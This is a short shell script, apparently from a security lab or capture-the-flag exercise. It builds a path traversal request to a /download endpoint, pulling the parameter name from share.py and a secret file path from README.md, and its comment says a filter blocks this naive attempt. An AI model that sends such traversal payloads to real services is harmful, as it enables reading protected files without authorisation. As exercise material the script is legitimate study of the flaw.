# The plain way up, which the filter stops.
set -eu
parameter=$(sed -n 's/^PARAMETER = "\(.*\)"/\1/p' share.py)
secret=$(grep -o '/srv/[^ `]*\.txt' README.md | cut -d/ -f4-)
printf '{"method": "GET", "path": "/download", "query": {"%s": "../%s"}}\n' \
  "$parameter" "$secret" > request.json
echo '../ leads out of the folder'
